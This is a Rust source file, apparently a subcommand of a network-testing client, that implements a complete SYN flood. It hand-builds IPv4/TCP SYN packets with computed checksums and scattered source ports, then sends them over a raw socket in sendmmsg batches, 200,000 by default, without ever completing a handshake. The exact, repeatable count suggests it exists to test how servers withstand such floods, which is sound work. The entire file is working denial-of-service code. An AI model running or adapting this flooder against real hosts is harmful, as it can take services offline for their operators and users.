//! A SYN flood of an exact size: every SYN handed to the kernel is counted, none is retransmitted.

use std::io;
use std::net::{SocketAddrV4, UdpSocket};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::Instant;

use anyhow::{Context, Result};

use crate::client::Outcome;

/// Sends SYNs from random-looking source ports and never answers.
#[derive(Debug, clap::Args)]
pub struct Args {
    /// Where to (IPv4).
    pub peer: SocketAddrV4,
    /// How many.
    #[arg(long, default_value_t = 200_000)]
    pub count: u64,
    /// Number of the first: the same number is the same SYN, sent again.
    #[arg(long, default_value_t = 0)]
    pub first: u64,
}

/// SYNs a system call.
const BATCH: usize = 64;
/// Bytes of an IPv4 header and a TCP header, both without options.
const LENGTH: usize = 40;

/// Sends and prints the result.
pub fn run(args: &Args) -> Result<()> {
    let start = Instant::now();
    let sent = flood(args)?;
    super::print(&Outcome {
        outcome: "sent".to_owned(),
        peer: args.peer.to_string(),
        errno: 0,
        seconds: start.elapsed().as_secs_f64(),
        count: sent,
        addresses: Vec::new(),
    })
}

fn flood(args: &Args) -> Result<u64> {
    let source = source(args.peer)?;
    // SAFETY: a plain system call; the descriptor is checked before it is owned.
    let socket = unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, libc::IPPROTO_RAW);
        if fd < 0 {
            return Err(io::Error::last_os_error()).context("opening a raw socket");
        }
        OwnedFd::from_raw_fd(fd)
    };
    let mut sent = 0;
    while sent < args.count {
        let now = usize::try_from(args.count - sent).unwrap_or(BATCH).min(BATCH);
        let mut packets: Vec<_> =
            (0..now as u64).map(|n| syn(source, args.peer, args.first + sent + n)).collect();
        sent += send(&socket, args.peer, &mut packets)?;
    }
    Ok(sent)
}

/// The address that the kernel would use towards the peer.
fn source(peer: SocketAddrV4) -> Result<[u8; 4]> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    socket.connect(peer).context("no route to the peer")?;
    match socket.local_addr()?.ip() {
        std::net::IpAddr::V4(ip) => Ok(ip.octets()),
        std::net::IpAddr::V6(_) => anyhow::bail!("an IPv4 socket with an IPv6 address"),
    }
}

/// The `n`th SYN: source port and sequence number differ from SYN to SYN.
fn syn(source: [u8; 4], peer: SocketAddrV4, n: u64) -> [u8; LENGTH] {
    let mut packet = [0; LENGTH];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&40u16.to_be_bytes());
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&source);
    packet[16..20].copy_from_slice(&peer.ip().octets());
    // 40503 is odd, so that multiples walk through all ports in a scattered order.
    let scattered = (n.wrapping_mul(40_503) % 64_512).to_be_bytes();
    let port = 1024 + u16::from_be_bytes([scattered[6], scattered[7]]);
    packet[20..22].copy_from_slice(&port.to_be_bytes());
    packet[22..24].copy_from_slice(&peer.port().to_be_bytes());
    packet[24..28].copy_from_slice(&n.wrapping_mul(2_654_435_761).to_be_bytes()[4..]);
    packet[32] = 5 << 4;
    packet[33] = 0x02;
    packet[34..36].copy_from_slice(&64_240u16.to_be_bytes());
    let sum = tcp_checksum(&packet);
    packet[36..38].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// RFC 9293, 3.1: the one's complement sum over the pseudo header and the segment.
fn tcp_checksum(packet: &[u8; LENGTH]) -> u16 {
    let words = |bytes: &[u8]| -> u32 {
        bytes.chunks_exact(2).map(|w| u32::from(u16::from_be_bytes([w[0], w[1]]))).sum()
    };
    let mut sum = words(&packet[12..]) + 6 + 20;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let [_, _, high, low] = sum.to_be_bytes();
    !u16::from_be_bytes([high, low])
}

/// Hands packets to the kernel; returns how many it took.
fn send(socket: &OwnedFd, peer: SocketAddrV4, packets: &mut [[u8; LENGTH]]) -> Result<u64> {
    let mut to = libc::sockaddr_in {
        sin_family: libc::sa_family_t::try_from(libc::AF_INET)?,
        sin_port: 0,
        sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(peer.ip().octets()) },
        sin_zero: [0; 8],
    };
    let length = libc::socklen_t::try_from(size_of::<libc::sockaddr_in>())?;
    let mut parts: Vec<_> = packets
        .iter_mut()
        .map(|packet| libc::iovec { iov_base: packet.as_mut_ptr().cast(), iov_len: LENGTH })
        .collect();
    let mut messages: Vec<_> = parts
        .iter_mut()
        .map(|part| {
            // SAFETY: all zeros is a valid mmsghdr; the pointers set below outlive the call.
            let mut message: libc::mmsghdr = unsafe { std::mem::zeroed() };
            message.msg_hdr.msg_name = (&raw mut to).cast();
            message.msg_hdr.msg_namelen = length;
            message.msg_hdr.msg_iov = part;
            message.msg_hdr.msg_iovlen = 1;
            message
        })
        .collect();
    let count = libc::c_uint::try_from(messages.len())?;
    // SAFETY: `messages` holds `count` headers whose pointers are to live locals.
    let taken = unsafe { libc::sendmmsg(socket.as_raw_fd(), messages.as_mut_ptr(), count, 0) };
    match u64::try_from(taken) {
        Ok(taken) => Ok(taken),
        Err(_) => match io::Error::last_os_error() {
            error if error.raw_os_error() == Some(libc::ENOBUFS) => Ok(0),
            error => Err(error).context("sending SYNs"),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_has_a_checksum_that_verifies() {
        let packet = syn([10, 244, 1, 5], SocketAddrV4::new([203, 0, 113, 4].into(), 443), 7);
        // With the checksum in place the sum is all ones, so its complement is zero.
        assert_eq!(tcp_checksum(&packet), 0);
    }

    #[test]
    fn source_ports_are_spread() {
        let peer = SocketAddrV4::new([203, 0, 113, 4].into(), 443);
        let ports: std::collections::BTreeSet<_> =
            (0..10_000).map(|n| syn([10, 244, 1, 5], peer, n)[20..22].to_vec()).collect();
        assert_eq!(ports.len(), 10_000);
    }
}
